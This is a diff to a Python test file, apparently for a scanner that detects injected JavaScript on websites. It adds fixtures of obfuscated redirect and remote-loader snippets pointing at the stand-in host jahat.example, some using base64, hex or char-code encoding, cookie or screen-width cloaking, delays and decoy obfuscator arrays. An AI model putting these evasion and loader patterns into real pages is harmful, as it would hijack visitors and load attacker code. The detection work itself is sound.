@@ -156,6 +156,43 @@ GUILTY = [
     # Where to is asked for once, and whoever clicks next goes there.
     (ASKS.replace("HIT", ""), "visitors"),
 ]
+# A list as an obfuscator makes it, of which nothing is used.
+FALSE_LIST = (
+    "function l(){var x=['1a','jahat.example'];return x;}function d(a,c){a=a-1;return l()[a]};"
+    "(function(q,w){z=parseInt(d(1))})(l,1);d(2);"
+)
+HIDDEN = [f"'{hexed(EVIL)}'", f"atob('{b64(EVIL)}')", f"String.fromCharCode({codes(EVIL)})"]
+# Tests on which nothing hangs, and an owner's name in a comment, cost an intruder nothing.
+IDLE = "if(location.hostname!=='www.contoh.go.test'){var z='abcdef'}"
+SEEN = "if(document.cookie.indexOf('a=1')<0){document.cookie='a=1';"
+IDLE_TESTS = [
+    (f"{IDLE}if(screen.width<600){{location.href=atob('{b64(EVIL)}')}}", "visitors"),
+    (f"{IDLE}{SEEN}location.href=atob('{b64(EVIL)}')}}", "visitors"),
+    (f"{IDLE}if(screen.width<600){{location.href='{EVIL}/x'}}", "visitors"),
+    *(
+        (f"{first}{move.format(f'location.href={hidden}')}", "loader")
+        for first in (IDLE, "/* jahat.example */", "document.querySelector('#x');", FALSE_LIST)
+        for move in (
+            "{}",
+            "(function(){{function d(s){{return s}}{}}})()",
+            "window.onload=()=>{{{}}}",
+            "setTimeout(function(){{try{{{}}}catch(e){{}}}},900)",
+        )
+        for hidden in HIDDEN
+    ),
+]
+NAMED = [
+    PLAIN_LOAD.format(f"atob('{b64(EVIL + '/a.js')}')"),
+    PLAIN_LOAD.format(f"'{hexed(EVIL)}/a.js'"),
+    f"var a=document.getElementById('mc');if(!a)location.href=atob('{b64(EVIL)}')",
+]
+DECOYS = [
+    "/* jahat.example */",
+    "// jahat.example\n",
+    "var a='//jahat.example';",
+    "var a='jahat%2eexample';",
+    FALSE_LIST,
+]
 LIKE_GUILTY = [
     pack("menu=function(){buka()}") + ";" + " " * 160 + pack("tutup=function(){menu()}"),
     pack("menu=function(){buka()}") + ";\n" + " " * 160 + TAIL,
@@ -173,6 +210,19 @@ def test_makers_are_not_accused(source: str, page: str) -> None:
 def test_who_does_the_same_for_himself_is(source: str, message: str) -> None:
     assert on_page(source, "").message == message
     assert in_file(source, "").message == message
+
+
+@pytest.mark.parametrize(("source", "message"), IDLE_TESTS)
+def test_what_decides_nothing_excuses_nothing(source: str, message: str) -> None:
+    assert on_page(source, "").message == message
+    assert in_file(source, "").message == message
+
+
+@pytest.mark.parametrize("source", NAMED)
+@pytest.mark.parametrize("decoy", DECOYS)
+def test_a_name_that_the_script_itself_says_leaves_it_odd(decoy: str, source: str) -> None:
+    for verdict in (on_page(decoy + source, ""), in_file(decoy + source, "")):
+        assert verdict.outcome is Outcome.FAIL
 
 
 @pytest.mark.parametrize("source", LIKE_GUILTY)
